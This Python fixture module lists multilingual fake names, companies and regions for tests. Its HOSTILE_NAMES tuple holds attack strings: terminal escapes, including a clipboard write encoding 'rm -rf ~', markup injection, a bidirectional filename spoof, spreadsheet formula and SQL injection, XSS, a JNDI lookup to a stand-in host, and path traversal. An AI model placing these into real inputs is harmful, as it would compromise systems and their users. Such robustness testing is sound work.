"""Names of the pretend world: of many scripts, and some that attack whoever prints them."""

from __future__ import annotations

from typing import Final

NAMES: Final[dict[str, tuple[tuple[str, ...], tuple[str, ...]]]] = {
    "en": (
        ("Olivia", "James", "Grace", "Ethan", "Chloe", "Samuel", "Ruth", "Oscar", "Megan", "Patrick"),
        ("Walker", "Hughes", "Clarke", "O'Brien", "Taylor-Reed", "Bennett", "Murphy", "Foster", "Doyle", "Price"),
    ),
    "de": (
        ("Anna", "Lukas", "Jürgen", "Käthe", "Moritz", "Lena", "Götz", "Sabine"),
        ("Müller", "Weiß", "Schröder", "von der Heide", "Krüger", "Bauer", "Jäger"),
    ),
    "fr": (
        ("Élodie", "François", "Zoë", "Benoît", "Inès", "Rémi"),
        ("Lefèvre", "Dubois", "d'Aubigné", "Moreau", "Noël"),
    ),
    "es": (
        ("José", "Lucía", "Íñigo", "Begoña", "Martín", "Sofía"),
        ("Núñez", "García López", "Ibáñez", "Peña", "Ortiz"),
    ),
    "sv": (
        ("Åsa", "Björn", "Linnéa", "Søren", "Øyvind", "Päivi"),
        ("Lindqvist", "Ångström", "Hansen", "Mäkelä", "Berg"),
    ),
    "pl": (("Łukasz", "Zofia", "Jiří", "Małgorzata", "István"), ("Wójcik", "Dvořák", "Szabó", "Żak", "Novák")),
    "tr": (("İpek", "Çağrı", "Gülşen", "Emre"), ("Yıldız", "Öztürk", "Şahin")),
    "el": (("Ελένη", "Γιώργος", "Νίκη"), ("Παπαδόπουλος", "Νικολάου")),
    "ar": (("ليلى", "يوسف", "مريم", "خالد"), ("الحسن", "منصور", "حداد")),
    "he": (("נועה", "איתי", "תמר"), ("כהן", "לוי", "פרידמן")),
    "hi": (("Ananya", "Rahul", "कविता", "Vikram", "दीपक"), ("Sharma", "Iyer", "पटेल", "Menon")),
    "ja": (("さくら", "健太", "美咲", "Haruto"), ("佐藤", "高橋", "山本", "Nakamura")),
    "ko": (("서연", "민준", "지우"), ("김", "이", "박")),
    "zh": (("伟", "秀英", "静怡", "Xiaoming"), ("王", "李", "欧阳", "Zhang")),
    "pt": (("João", "Conceição", "Tiago", "Inês"), ("Gonçalves", "da Silva", "Araújo")),
    "sw": (("Amina", "Chinedu", "Wanjiru", "Thabo", "Ngozi"), ("Otieno", "Adeyemi", "Nkosi", "Mwangi")),
}

HOSTILE_NAMES: Final = (
    "\x1b]0;owned\x07\x1b[2J\x1b[31mEve Escape",
    "\x1b]52;c;cm0gLXJmIH4=\x07Clip Board",
    "\x9b31mC One \x9d0;title\x9c",
    "[/]",
    "[@click=app.quit]Click Me[/]",
    "[bold red]Mark Up[/bold red] [link=file:///etc/passwd]x[/link]",
    "Gnp\u202egnp.exe\u202c Reverse",
    "\u2066\u2067Isolated\u2069 Name",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u0301\u0300\u0302\u0303\u0308lgo Text",
    "=cmd|'/C calc'!A0",
    "+SUM(1+1)*cmd",
    "@SUM(A1:A9)",
    "Robert'); DROP TABLE customers;--",
    '" OR 1=1 NEAR( * :',
    "<script>alert(1)</script>",
    "{{7*7}} ${jndi:ldap://example.invalid/a} %s%n",
    "Null\x00Byte",
    "Line\nBreak\r\nCarriage\tTab",
    "Zero\u200bWidth\u200d\ufeff\U000e0041Tag",
    "👩\u200d👩\u200d👧\u200d👦 Family 🏳️\u200d🌈",
    "Раураl Suрроrt",
    "م" * 40 + " 123",
    "Very " + "long " * 400 + "Name",
    "W" * 600,
    "﷽ ﷽ ﷽",
    "../../../etc/passwd",
    " ",
)
"""Each one has broken some program: escapes, markup, bidirectional overrides, formulas, SQL, look-alikes, length."""

COMPANIES: Final = (
    "Northwind Freight", "Blue Heron Bakery", "Kestrel Optics", "Alder & Finch", "Harbour Lane Clinics",
    "Quill Print Works", "Mossgate Gardens", "Tidewater Cycles", "Lumen Theatre", "Copperfield Tools",
    "Fjordlys AS", "Grünwald GmbH", "Maison Corbeau", "Torres y Hijos S.L.", "佐野電機", "Saffron Route Pvt Ltd",
)  # fmt: skip

REGIONS: Final = {  # region -> names and language, time zone, its usual distance from UTC in hours
    "GB": ("en", "Europe/London", 0.0), "IE": ("en", "Europe/Dublin", 0.0), "DE": ("de", "Europe/Berlin", 1.0),
    "AT": ("de", "Europe/Vienna", 1.0), "CH": ("de", "Europe/Zurich", 1.0), "FR": ("fr", "Europe/Paris", 1.0),
    "BE": ("fr", "Europe/Brussels", 1.0), "ES": ("es", "Europe/Madrid", 1.0), "IT": ("es", "Europe/Rome", 1.0),
    "NL": ("de", "Europe/Amsterdam", 1.0), "SE": ("sv", "Europe/Stockholm", 1.0), "NO": ("sv", "Europe/Oslo", 1.0),
    "DK": ("sv", "Europe/Copenhagen", 1.0), "FI": ("sv", "Europe/Helsinki", 2.0), "PL": ("pl", "Europe/Warsaw", 1.0),
    "CZ": ("pl", "Europe/Prague", 1.0), "HU": ("pl", "Europe/Budapest", 1.0), "PT": ("pt", "Europe/Lisbon", 0.0),
    "GR": ("el", "Europe/Athens", 2.0), "TR": ("tr", "Europe/Istanbul", 3.0), "IL": ("he", "Asia/Jerusalem", 2.0),
    "AE": ("ar", "Asia/Dubai", 4.0), "IN": ("hi", "Asia/Kolkata", 5.5), "SG": ("zh", "Asia/Singapore", 8.0),
    "CN": ("zh", "Asia/Shanghai", 8.0), "JP": ("ja", "Asia/Tokyo", 9.0), "KR": ("ko", "Asia/Seoul", 9.0),
    "AU": ("en", "Australia/Sydney", 10.0), "NZ": ("en", "Pacific/Auckland", 12.0),
    "US": ("en", "America/New_York", -5.0), "CA": ("fr", "America/Toronto", -5.0),
    "BR": ("pt", "America/Sao_Paulo", -3.0), "ZA": ("sw", "Africa/Johannesburg", 2.0),
    "NG": ("sw", "Africa/Lagos", 1.0), "KE": ("sw", "Africa/Nairobi", 3.0),
}  # fmt: skip
